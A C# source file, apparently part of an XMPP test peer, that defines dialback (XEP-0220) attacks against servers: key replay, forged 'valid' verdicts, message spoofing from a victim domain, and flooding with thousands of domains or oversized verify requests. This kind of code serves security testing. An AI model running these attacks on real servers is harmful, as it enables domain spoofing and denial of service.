using XmppPeer.Streams;

namespace XmppPeer.Attacks;

/// <summary>What dialback has been attacked with (XEP-0220 §3): replayed keys, stanzas ahead of the verdict, verdicts nobody asked for, other domains' keys.</summary>
public static class DialbackAttacks
{
    private static readonly string Zeros = new('0', 64);

    public static readonly IReadOnlyDictionary<string, Attack> All = new Dictionary<string, Attack>(StringComparer.Ordinal)
    {
        ["dialback-replay"] = new(Manners.Secured, ReplayAsync),
        ["dialback-race"] = new(Manners.Secured, g => g.Stream.SendAsync(g.Result(g.Persona.Domain, g.KeyFor(g.StreamId)) + g.Message("ahead of the verdict"))),
        ["dialback-forged-verdict"] = new(Manners.Secured, async g => await g.Stream.SendAsync(
            g.Result(g.Victim, Zeros)
            + $"<db:verify from='{g.Victim}' to='{g.Target}' id='{g.StreamId}' type='valid'/><db:result from='{g.Victim}' to='{g.Target}' type='valid'/>"
            + g.Message("forged", "juliet@" + g.Victim))),
        ["dialback-of-another"] = new(Manners.Secured, async g =>
        {
            await g.Stream.SendAsync(g.Result(g.Victim, Zeros));
            await g.HearsAsync("<db:result");
            await g.Stream.SendAsync(g.Message("forged", "juliet@" + g.Victim));
        }),
        ["dialback-incomplete"] = new(Manners.Secured, g => g.Stream.SendAsync("<db:result>" + Zeros + "</db:result>")),
        ["dialback-many-domains"] = new(Manners.Secured, async g =>
        {
            for (var i = 0; i < 2_000; i++) await g.Stream.SendAsync(g.Result($"d{i}.{g.Persona.Domain}", Zeros));
        }),
        ["dialback-unread-answers"] = new(Manners.Opened, async g =>
        {
            var questions = string.Concat(Enumerable.Repeat($"<db:verify from='{g.Persona.Domain}' to='{g.Target}' id='{new string('"', 1_000)}'>{Zeros}</db:verify>", 50));
            for (var i = 0; i < 200; i++) await g.Stream.SendAsync(questions);
        }),
        ["dialback-in-clear"] = new(Manners.Opened, async g =>
        {
            await g.Stream.SendAsync(g.Result(g.Persona.Domain, g.KeyFor(g.StreamId)));
            await g.HearsAsync("<db:result");
            await g.Stream.SendAsync(g.Message("in clear"));
        }),
    };

    // A key that was good once, on another stream: the authoritative server sees another stream id (XEP-0220 §2.2).
    private static async Task ReplayAsync(Ground ground)
    {
        var honest = new Outgoing(ground.Server, ground.Persona with { UsesExternal = false, UsesDialback = true }, ground.Target);
        if (!await honest.ReadyAsync()) ground.Server.Events.Emit("fault", ("verb", "attack"), ("why", "the honest stream did not come to stand"));
        var key = ground.KeyFor(honest.StreamId);
        await ground.Stream.SendAsync(ground.Result(ground.Persona.Domain, key));
        await ground.HearsAsync("<db:result");
        await ground.Stream.SendAsync(ground.Message("by an old key"));
        await honest.CloseAsync();
    }
}
